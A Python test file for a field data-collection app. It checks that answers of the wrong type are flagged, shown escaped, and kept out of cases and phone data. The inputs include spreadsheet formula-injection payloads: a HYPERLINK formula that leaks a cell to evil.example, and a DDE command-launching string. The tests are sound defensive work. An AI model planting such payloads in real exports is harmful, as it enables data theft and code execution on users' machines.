"""Issue 10 item 10: answers that do not parse as their field's type are kept as sent, flagged
(API and submission page), and never become case properties that phones receive."""

from __future__ import annotations

from tests.cases.support import (
    SEED1_HOUSEHOLD,
    home_visit,
    household_of,
    instance_of,
    registration,
    set_element,
)
from tests.conftest import Browser

FORMULA = '=HYPERLINK("http://evil.example/?leak="&amp;A1,"Open")'
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _registration_with_bad_answers() -> bytes:
    xml, _files = registration("seed1")
    xml = set_element(xml, "next_visit_date", FORMULA)  # a date question
    xml = set_element(xml, "host_relation", "=1+1")  # a select_one with listed choices
    return xml


def test_flagged_answers_are_kept_shown_and_never_reach_cases_or_phones(app, programme):
    worker, coord = programme["worker"], programme["coord"]
    xml = _registration_with_bad_answers()
    _, files = registration("seed1")
    instance = worker.submit(xml, files)

    body = coord.api.submission(instance)
    # kept exactly as sent ...
    assert body["data"]["follow_up"]["next_visit_date"] == FORMULA_TEXT
    assert body["data"]["household"]["host_relation"] == "=1+1"
    # ... and flagged with path and expected type
    assert body["invalid_answers"] == [
        {
            "path": "/data/household/host_relation",
            "field": "/data/household/host_relation",
            "expected": "select_one",
        },
        {
            "path": "/data/follow_up/next_visit_date",
            "field": "/data/follow_up/next_visit_date",
            "expected": "date",
        },
    ]
    # the proposed case changes leave them out; valid answers are still proposed
    household = [c for c in body["case_changes"] if c["case_id"] == SEED1_HOUSEHOLD]
    proposed = {c["property"] for c in household}
    assert "household_size" in proposed and "arrival_date" in proposed
    assert "next_visit" not in proposed and "hosting_relatives" not in proposed

    # the submission page marks them
    browser = Browser(app.test_client())
    assert browser.login("coord").status_code == 302
    page = browser.get(f"/submissions/{instance}").data.decode()
    assert 'id="invalid-answers"' in page
    assert page.count("badge-invalid") == 2
    assert "expected a date (YYYY-MM-DD)" in page
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in page  # escaped, as sent

    # approval: the household case exists without the flagged properties
    coord.api.review(instance)
    case = coord.api.case(household_of(xml))
    assert "next_visit" not in case["properties"]
    assert "hosting_relatives" not in case["properties"]
    assert case["properties"]["household_size"] == 8
    # and the phone's case list carries no formula
    rows = worker.rows()
    assert [r["name"] for r in rows] == [SEED1_HOUSEHOLD]
    assert all("HYPERLINK" not in value for row in rows for value in row.values())


def test_a_flagged_follow_up_answer_does_not_overwrite_the_case(app, programme):
    worker, coord = programme["worker"], programme["coord"]
    xml, files = registration("seed1")
    coord.api.review(worker.submit(xml, files))
    before = coord.api.case(SEED1_HOUSEHOLD)["properties"]["next_visit"]

    visit = home_visit(SEED1_HOUSEHOLD, 1, next_visit_date="=cmd|' /C calc'!A0")
    instance = worker.submit(visit)
    body = coord.api.submission(instance)
    assert [f["expected"] for f in body["invalid_answers"]] == ["date"]
    coord.api.review(instance)
    case = coord.api.case(SEED1_HOUSEHOLD)
    assert case["version"] == 2  # the rest of the visit was applied
    assert case["properties"]["next_visit"] == before
    assert all("cmd" not in value for row in worker.rows() for value in row.values())


def test_valid_programme_submissions_have_no_flags(programme):
    worker, coord = programme["worker"], programme["coord"]
    xml, files = registration("seed1")
    instance = worker.submit(xml, files)
    assert instance == instance_of(xml)
    assert coord.api.submission(instance)["invalid_answers"] == []
